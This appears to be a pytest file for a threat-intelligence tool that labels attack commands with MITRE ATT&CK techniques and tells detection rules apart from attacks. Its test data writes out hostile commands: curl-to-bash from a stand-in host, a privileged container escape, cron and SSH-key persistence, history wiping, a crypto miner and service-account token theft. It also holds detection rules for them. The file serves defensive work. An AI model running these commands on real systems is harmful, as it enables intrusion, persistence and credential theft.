"""Proves which commands of a listing tell of a technique, and that rules which look for them do not."""

import pytest
from technique_labels import article_of

from tidewaiter.intel.commands import carried_out, is_rule
from tidewaiter.intel.technique_index import TechniqueIndex
from tidewaiter.intel.techniques import COMMANDED, techniques_of

ATTACK = "# A break-in\n\nAttackers broke in. Their malware hid, and the victims were many.\n\n"


@pytest.mark.parametrize(
    ("line", "techniques"),
    [
        ("docker -H tcp://10.1.1.1:2375 run -d -v /:/host --privileged a/b", {"T1610", "T1611"}),
        ("curl -fsSL http://x/y | sudo bash", {"T1105", "T1059.004"}),
        ("(crontab -l; echo '* * * * * /tmp/.x') | crontab -", {"T1053.003"}),
        ("echo ssh-rsa AAAA >> /home/ops/.ssh/authorized_keys", {"T1098.004"}),
        ("unset HISTFILE; history -c", {"T1070.003"}),
        ("iptables -F", {"T1686"}),
        ("./xmrig -o stratum+tcp://pool:3333 --donate-level 1", {"T1496.001"}),
        ("kubectl -n web exec -it pod -- sh -c id", {"T1609", "T1059.004"}),
        ("cat /var/run/secrets/kubernetes.io/serviceaccount/token", {"T1528"}),
        ("docker pull ubuntu:18.04", set()),
        ("docker images --digests", set()),
        ("curl -sI https://example.org/v2/", set()),
        ("kubectl get pods", set()),
    ],
)
def test_commands_carry_techniques_out(line: str, techniques: set[str]) -> None:
    assert {ids[0] for ids in carried_out(line)} == techniques


@pytest.mark.parametrize(
    "listing",
    [
        "title: x\nlogsource:\n  category: process\ndetection:\n  s:\n    CommandLine|contains: 'curl x | sh'",
        'index=main process="*curl * | sh*"',
        "DeviceProcessEvents\n| where ProcessCommandLine has 'crontab -'",
        "docker images --digests | grep abc",
        "- rule: shell\n  condition: spawned_process and proc.name = sh",
    ],
)
def test_a_rule_looks_for_commands_and_runs_none(listing: str) -> None:
    assert is_rule(listing)


def test_a_command_is_the_evidence_of_its_technique(index: TechniqueIndex) -> None:
    article = article_of(f"{ATTACK}```\n# crontab -\ncurl http://x/y | bash\n```\n")
    found = {one.id: (one.score, one.evidence) for one in techniques_of(article, index)}
    assert found["T1105"] == (COMMANDED, "curl http://x/y | bash")
    assert found["T1053.003"] == (COMMANDED, "# crontab -")


@pytest.mark.parametrize(
    "text",
    [
        "# Notes\n\nIt is easy to install.\n\n```\ncurl http://x/y | bash\n```\n",
        f"{ATTACK}## Detection\n\n```\ncurl http://x/y | bash\n```\n",
        f'{ATTACK}```\nindex=main cmd="curl http://x/y | bash"\n```\n',
    ],
)
def test_outside_of_attacks_and_in_rules_commands_tell_of_nothing(text: str, index: TechniqueIndex) -> None:
    assert techniques_of(article_of(text), index) == ()
